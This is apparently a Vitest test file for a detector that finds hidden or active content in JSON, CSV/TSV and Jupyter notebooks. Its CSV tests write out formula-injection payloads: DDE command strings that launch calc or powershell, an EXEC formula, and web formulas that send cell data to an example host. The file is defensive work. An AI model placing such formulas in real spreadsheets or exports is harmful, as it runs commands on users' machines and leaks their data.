import { describe, expect, it } from 'vitest';
import { ATTACK, extract, sourceOf, techniquesOf, textOf } from './markup-support.ts';

describe('JSON', () => {
  it('reads escaped strings as they read, and every one of two with the same name', async () => {
    const escaped = [...ATTACK].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
    const source = `{"a":"${escaped}","a":"fine","${escaped}":1}`;
    const { surfaces, reasons } = await extract('json', source);
    expect(surfaces[0]).toEqual({ text: source, origin: 'body', visibility: 'visible', hiddenBy: [] });
    expect(surfaces[1]?.text.split('\n').filter(Boolean)).toEqual([ATTACK, ATTACK]);
    expect(sourceOf(source, surfaces.slice(1), ATTACK)).toBe(`"${escaped}"`);
    expect(reasons).toEqual([]);
  });

  it('reads JSON lines, comments, and says what is no JSON', async () => {
    expect((await extract('json', '{"a":1}\n{"b":[2]} // more\n')).reasons).toEqual([]);
    expect((await extract('json', '{a:1}')).reasons).toEqual(['malformed_content']);
  });

  it('gives files in addresses as children', async () => {
    const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><text>${ATTACK}</text></svg>`).toString('base64');
    const { children } = await extract('json', `{"image":"data:image/svg+xml;base64,${svg}"}`);
    expect(children.map((child) => child.format)).toEqual(['svg']);
  });

  it.each([
    ['arrays nested 100 000 deep', '['.repeat(100_000)],
    ['10 MB of escapes', `"${'\\u0041'.repeat(1_600_000)}"`],
    ['an unclosed string', `"${'\\"'.repeat(5_000_000)}`],
  ])('ends in time on %s', { timeout: 20_000 }, async (_, source) => {
    expect((await extract('json', source)).surfaces[0]?.text).toBe(source);
  });
});

describe('CSV and TSV', () => {
  it.each([
    ['dde_formula', 'malicious', `name,note\nBob,"=cmd|' /C calc'!A0"`],
    ['dde_formula', 'malicious', `a;b\n1;@SUM(1+1)*cmd|' /C calc'!A0`],
    ['dde_formula', 'malicious', `a\tb\n1\t-2+3+cmd|' /C powershell'!D2`],
    ['command_formula', 'malicious', 'a,b\n1,"=EXEC(""calc.exe"")"'],
    ['network_formula', 'neutral', 'a,b\n1,"=HYPERLINK(""https://x.example?d=""&A1,""click"")"'],
    ['network_formula', 'neutral', 'a,b\n1,"=IMPORTXML(CONCAT(""https://x.example/"",A1),""//a"")"'],
    ['network_formula', 'neutral', 'a,b\n1,"+WEBSERVICE(""https://x.example"")"'],
  ])('finds %s (%s): %s', async (technique, intent, source) => {
    const { threats } = await extract('csv', source);
    expect(threats).toMatchObject([{ category: 'active_content', technique, intent, location: { kind: 'part', path: 'row 2/column 2' } }]);
  });

  it('leaves numbers, names, lists and plain formulas alone', async () => {
    const source = 'a,b,c,d\n-1.5,+49 30 1234,@handle,- item | other!\n=SUM(A1:A3),-,"-5 % (net)",=A1+B1\n';
    const { threats, surfaces, signals } = await extract('csv', source);
    expect(threats).toEqual([]);
    expect(signals).toEqual(['table_formula']);
    expect(surfaces).toEqual([{ text: source, origin: 'body', visibility: 'visible', hiddenBy: [] }]);
  });

  it.each([
    ['an unclosed quotation mark', `a,"${'x,'.repeat(2_000_000)}\n=cmd|' /C calc'!A0`],
    ['10 MB in one line', `${'a,'.repeat(5_000_000)}`],
    ['quotation marks', `${'"'.repeat(1_000_001)}`],
  ])('ends in time on %s', { timeout: 20_000 }, async (_, source) => {
    expect((await extract('csv', source)).surfaces[0]?.text).toBe(source);
  });
});

const notebook = (...cells: readonly unknown[]): string => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
const code = (source: string, ...outputs: readonly unknown[]): unknown => ({ cell_type: 'code', source, metadata: {}, outputs });

describe('notebooks', () => {
  it('reads cells and outputs with their place', async () => {
    const { surfaces, reasons } = await extract(
      'notebook',
      notebook(
        { cell_type: 'markdown', source: ['# Title\n', 'words'] },
        code('print(1)', { output_type: 'stream', name: 'stdout', text: ['one\n', 'two'] }),
      ),
    );
    expect(surfaces.map(({ text, location }) => [text, location?.kind === 'part' ? location.path : ''])).toEqual([
      ['# Title\nwords', 'cell 1'],
      ['print(1)', 'cell 2'],
      ['one\ntwo', 'cell 2/output 1'],
    ]);
    expect(reasons).toEqual([]);
  });

  it.each([
    ['comment', { cell_type: 'markdown', source: `<!-- ${ATTACK} -->` }],
    ['display_none', code('x', { output_type: 'display_data', data: { 'text/html': [`<p hidden>${ATTACK}</p>`] } })],
    ['collapsed', { cell_type: 'code', source: ATTACK, metadata: { jupyter: { source_hidden: true } } }],
    ['collapsed', { cell_type: 'code', source: '', metadata: { jupyter: { outputs_hidden: true } }, outputs: [{ text: ATTACK }] }],
    ['metadata', { cell_type: 'code', source: '', metadata: { note: { deep: [ATTACK] } } }],
  ])('finds what %s hides', async (technique, cell) => {
    const { surfaces } = await extract('notebook', notebook(cell));
    expect(techniquesOf(surfaces, ATTACK)).toContain(technique);
  });

  it('gives images as children', async () => {
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(100)]).toString('base64');
    const { children, structure } = await extract(
      'notebook',
      notebook(code('x', { data: { 'image/png': png, 'image/svg+xml': ['<svg/>'] } }), {
        cell_type: 'markdown',
        source: '![a](attachment:a.png)',
        attachments: { 'a.png': { 'image/png': `${png.slice(0, -8)}AAAAAAAA` } },
      }),
    );
    expect(children.map((child) => child.format).sort()).toEqual(['png', 'png', 'svg']);
    expect(structure?.embeddedImageCount).toBe(3);
  });

  it('reads as JSON what is no notebook', async () => {
    const { surfaces, reasons } = await extract('notebook', `{"nbformat":4,"cells":[{"source":"${ATTACK}"}`);
    expect(textOf(surfaces, 'visible')).toContain(ATTACK);
    expect(reasons).toEqual(['malformed_content']);
    expect((await extract('notebook', '{"nbformat":4,"cells":[1,null,{"source":5,"outputs":[7,{"data":[]}]}]}')).reasons).toEqual([]);
  });
});
